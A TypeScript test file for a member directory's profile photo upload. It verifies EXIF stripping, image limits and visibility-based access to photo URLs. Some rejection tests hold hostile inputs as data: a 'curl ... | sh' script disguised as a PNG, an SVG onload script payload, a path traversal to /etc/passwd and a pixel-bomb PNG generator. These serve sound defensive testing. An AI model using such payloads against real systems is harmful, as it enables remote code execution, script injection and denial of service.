import assert from 'node:assert/strict';
import { crc32, deflateSync } from 'node:zlib';
import { test } from 'node:test';
import sharp from 'sharp';
import { Agent } from '../../../../tests/support/agent.js';
import { useTestWorld } from '../../../../tests/support/context.js';
import { actorFor, createUser, PASSWORD } from '../../../../tests/support/factories.js';
import { uploadFile } from '../../../../tests/support/multipart.js';
import { hashPassword } from '../../accounts/index.js';
import { erasePersonalData, exportPersonalData } from '../../../modules.js';
import { approvedMember, makePlan } from '../members.testing.js';
import { MAX_INPUT_PIXELS } from './profiles.photo.js';
import { DEFAULT_VISIBILITY } from './profiles.visibility.js';

// A small upload limit, so the oversize case sends little.
const MAX_BYTES = 300 * 1024;
const w = useTestWorld({ documentMaxBytes: MAX_BYTES });

type Staff = ReturnType<typeof actorFor> & { userId: string };

async function signedInMember(staff: Staff, planId: number, who: { firstName: string; lastName: string; email: string }) {
  const m = await approvedMember(w.ctx, staff, planId, who, '2026-11-20');
  await w.ctx.db.updateTable('user_account').set({ password_hash: await hashPassword(PASSWORD), email_verified_at: w.clock.now() }).where('email', '=', who.email).execute();
  const agent = new Agent(w.app);
  await agent.login(who.email, PASSWORD);
  return { ...m, agent };
}

async function world() {
  const staffUser = await createUser(w.ctx, { roles: ['staff'] });
  const staff = actorFor(w.ctx, staffUser, ['staff']) as Staff;
  const planId = await makePlan(w.ctx);
  const camille = await signedInMember(staff, planId, { firstName: 'Camille', lastName: 'Dubois', email: 'camille.dubois@exemple.fr' });
  const louis = await signedInMember(staff, planId, { firstName: 'Louis', lastName: 'Martin', email: 'louis.martin@exemple.fr' });
  const team = new Agent(w.app);
  await team.login(staffUser.email, staffUser.password);
  return { camille, louis, team };
}

const visibility = (over: Record<string, string> = {}) => Object.fromEntries(Object.entries({ ...DEFAULT_VISIBILITY, ...over }).map(([k, v]) => [`vis_${k}`, v]));
const profileForm = (over: Record<string, string | string[]> = {}) => ({
  displayName: 'Camille Dubois',
  activity: 'Développeuse web indépendante',
  skills: 'Développement web',
  insee: '32013',
  contactOpen: '1',
  ...visibility(),
  ...over,
});

/** A phone photo: a JPEG carrying the owner's name, the camera and a GPS position in its EXIF. */
const phonePhoto = () =>
  sharp({ create: { width: 1200, height: 800, channels: 3, background: '#2f6b3a' } })
    .jpeg()
    .withMetadata({ exif: { IFD0: { Copyright: 'Camille Dubois', Make: 'PhoneCam' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 38/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '0/1 35/1 10/1' } } })
    .toBuffer();

/** A PNG of a few hundred bytes that claims 20,000 × 20,000 pixels (400 million once decoded). */
function pixelBomb() {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([head, body, crc]);
  };
  const side = 20_000;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // 8 bits, greyscale
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc((side + 1) * 16))), chunk('IEND', Buffer.alloc(0))]);
}

const sendPhoto = (agent: Agent, data: Buffer, filename = 'moi.jpg', type = 'image/jpeg') => uploadFile(w.app, agent, '/compte/profil', '/compte/profil/photo', 'photo', { filename, type, data });
const photoRows = () => w.ctx.db.selectFrom('member_photo').selectAll().execute();
const photoUrls = (html: string) => [...html.matchAll(/src="(\/annuaire\/photos\/[0-9a-f-]{36}\/(?:400|96)\.webp)"/g)].map((m) => m[1]);

test('a phone photo is cropped square, resized, re-encoded to WebP and stripped of its EXIF (GPS included), then shown on the profile page with its alternative text', async () => {
  const { camille } = await world();
  const original = await phonePhoto();
  assert.ok((await sharp(original).metadata()).exif, 'the original carries EXIF');
  assert.ok(original.includes('Camille Dubois') && original.includes('PhoneCam'));

  const res = await sendPhoto(camille.agent, original);
  assert.equal(res.statusCode, 303);
  assert.equal(res.headers.location, '/compte/profil#photo');
  const [row] = await photoRows();
  for (const [bytes, side] of [[row.large, 400], [row.small, 96]] as const) {
    const buf = Buffer.from(bytes);
    const meta = await sharp(buf).metadata();
    assert.equal(meta.format, 'webp');
    assert.equal(meta.width, side);
    assert.equal(meta.height, side);
    assert.equal(meta.exif, undefined, 'no EXIF left');
    assert.equal(meta.xmp, undefined);
    assert.equal(buf.includes('Camille Dubois') || buf.includes('PhoneCam'), false, 'nothing of the original metadata');
  }

  const page = await camille.agent.get('/compte/profil');
  assert.match(page.body, new RegExp(`<img class="member-photo" src="/annuaire/photos/${row.id}/400\\.webp" alt="Photo de Camille Dubois"`));
  const audit = await w.ctx.db.selectFrom('audit_event').select('action').where('action', 'like', 'member_profile.photo%').execute();
  assert.deepEqual(audit.map((a) => a.action), ['member_profile.photo_set']);
});

test('a script named .png, a truncated image, a pixel bomb and an empty form are refused on the page with a French message per field (422); nothing is kept', async () => {
  const { camille } = await world();
  const png = await sharp({ create: { width: 600, height: 600, channels: 4, background: { r: 200, g: 120, b: 20, alpha: 0.5 } } }).png().toBuffer();
  const cases: [string, Buffer, string, RegExp][] = [
    ['script', Buffer.from('#!/bin/sh\ncurl https://exemple.invalid | sh\n'), 'photo.png', /n’est pas une photo JPEG, PNG ou WebP/],
    ['html', Buffer.from('<svg onload="alert(1)"></svg>'), 'photo.png', /n’est pas une photo JPEG, PNG ou WebP/],
    ['truncated', png.subarray(0, Math.floor(png.length * 0.6)), 'photo.png', /abîmée ou incomplète/],
    ['pixel bomb', pixelBomb(), 'photo.png', /trop grande \(en pixels\)/],
  ];
  assert.ok(20_000 * 20_000 > MAX_INPUT_PIXELS);
  for (const [what, data, filename, message] of cases) {
    const res = await sendPhoto(camille.agent, data, filename, 'image/png');
    assert.equal(res.statusCode, 422, what);
    assert.match(res.body, message, what);
    assert.match(res.body, /id="photo-e-photo"/, `${what}: the message is on the photo field`);
    assert.match(res.body, /name="displayName" type="text" value="Camille Dubois"/, `${what}: the profile form is still filled`);
  }
  const none = await uploadFile(w.app, camille.agent, '/compte/profil', '/compte/profil/photo', 'autre', { filename: 'x.jpg', type: 'image/jpeg', data: Buffer.from('x') });
  assert.equal(none.statusCode, 422);
  assert.match(none.body, /Choisissez une photo à envoyer/);
  assert.deepEqual(await photoRows(), []);
});

test('a photo over the upload limit is cut while it streams and the page says so (422), never a 500', async () => {
  const { camille } = await world();
  const big = await sharp({ create: { width: 2000, height: 2000, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 60 } } }).jpeg({ quality: 100 }).toBuffer();
  assert.ok(big.length > MAX_BYTES);
  const res = await sendPhoto(camille.agent, big);
  assert.equal(res.statusCode, 422);
  assert.match(res.body, /Cette photo est trop lourde/);
  assert.deepEqual(await photoRows(), []);
});

test('the photo’s URL answers only those who see the photo: members by default, visitors once it is public in the showcase, the team when set to the team; a guessed or older URL is not found', async () => {
  const { camille, louis, team } = await world();
  assert.equal((await camille.agent.post('/compte/profil', profileForm())).statusCode, 303);
  assert.equal((await sendPhoto(camille.agent, await phonePhoto())).statusCode, 303);
  const [row] = await photoRows();
  const large = `/annuaire/photos/${row.id}/400.webp`;
  const visitor = new Agent(w.app);

  // Members (the default audience).
  const seen = await louis.agent.get(large);
  assert.equal(seen.statusCode, 200);
  assert.equal(seen.headers['content-type'], 'image/webp');
  assert.equal(seen.headers['x-content-type-options'], 'nosniff');
  assert.match(String(seen.headers['cache-control']), /^private, max-age=31536000, immutable$/);
  assert.deepEqual(seen.rawPayload, Buffer.from(row.large));
  assert.equal((await louis.agent.get(`/annuaire/photos/${row.id}/96.webp`)).rawPayload.length, row.small.length);
  const directory = await louis.agent.get('/annuaire');
  assert.deepEqual(photoUrls(directory.body), [`/annuaire/photos/${row.id}/96.webp`]);
  assert.match(directory.body, /alt="Photo de Camille Dubois" width="96" height="96" loading="lazy"/);
  assert.equal((await visitor.get(large)).statusCode, 404, 'a visitor with the URL');
  assert.equal((await visitor.get(`/annuaire/photos/${row.id}/1200.webp`)).statusCode, 404, 'an unknown size');
  assert.equal((await visitor.get('/annuaire/photos/00000000-0000-4000-8000-000000000000/400.webp')).statusCode, 404, 'a guessed id');
  assert.equal((await visitor.get('/annuaire/photos/..%2F..%2Fetc%2Fpasswd/400.webp')).statusCode, 404);

  // Public in the showcase: visitors see it, shared caches may keep it, under a new URL.
  assert.equal((await camille.agent.post('/compte/profil', profileForm({ publicShowcase: '1', ...visibility({ name: 'public', photo: 'public' }) }))).statusCode, 303);
  const showcase = await new Agent(w.app).get('/annuaire');
  const [publicUrl] = photoUrls(showcase.body);
  assert.ok(publicUrl && !publicUrl.startsWith(`/annuaire/photos/${row.id}/`), 'a new URL once public');
  const pub = await visitor.get(publicUrl.replace('96.webp', '400.webp'));
  assert.equal(pub.statusCode, 200);
  assert.match(String(pub.headers['cache-control']), /^public, /);
  assert.equal((await louis.agent.get(large)).statusCode, 404, 'the members-only URL is gone');

  // Public photo but the name hidden: the alternative text does not name the member.
  assert.equal((await camille.agent.post('/compte/profil', profileForm({ publicShowcase: '1', ...visibility({ photo: 'public', skills: 'public' }) }))).statusCode, 303);
  assert.match((await new Agent(w.app).get('/annuaire')).body, /alt="Photo d’un adhérent"/);

  // The team only: members and visitors no longer get it, the team does.
  assert.equal((await camille.agent.post('/compte/profil', profileForm(visibility({ photo: 'staff' })))).statusCode, 303);
  const [staffOnly] = await photoRows();
  const staffUrl = `/annuaire/photos/${staffOnly.id}/400.webp`;
  assert.equal((await louis.agent.get(staffUrl)).statusCode, 404);
  assert.equal((await visitor.get(staffUrl)).statusCode, 404);
  assert.equal((await team.get(staffUrl)).statusCode, 200);
  assert.equal((await camille.agent.get(staffUrl)).statusCode, 200, 'the member themself');
  assert.deepEqual(photoUrls((await louis.agent.get('/annuaire')).body), []);
  const api = (await louis.agent.get('/api/v1/annuaire')).json() as { items: { photo?: unknown }[] };
  assert.equal(api.items[0].photo, undefined);
});

test('a member removes their photo; the export mentions it and erasure deletes it', async () => {
  const { camille } = await world();
  assert.equal((await sendPhoto(camille.agent, await phonePhoto())).statusCode, 303);
  let [row] = await photoRows();
  assert.equal((await camille.agent.post('/compte/profil/photo/supprimer', {})).statusCode, 303);
  assert.deepEqual(await photoRows(), []);
  assert.equal((await camille.agent.get(`/annuaire/photos/${row.id}/400.webp`)).statusCode, 404);
  assert.match((await camille.agent.get('/compte/profil')).body, /Pas encore de photo/);

  assert.equal((await sendPhoto(camille.agent, await phonePhoto())).statusCode, 303);
  [row] = await photoRows();
  const user = await w.ctx.db.selectFrom('member').select('user_id').where('id', '=', camille.memberId).executeTakeFirstOrThrow();
  const data = (await exportPersonalData(w.ctx, user.user_id!)) as { members: { directory: { profiles: { photo?: { large: string }; photoFile: { type: string; bytes: number } | null }[] } } };
  const [profile] = data.members.directory.profiles;
  assert.equal(profile.photo?.large, `/annuaire/photos/${row.id}/400.webp`);
  assert.equal(profile.photoFile?.type, 'image/webp');
  assert.equal(profile.photoFile?.bytes, row.large.length);

  await erasePersonalData(w.ctx, user.user_id!);
  assert.deepEqual(await photoRows(), []);
});
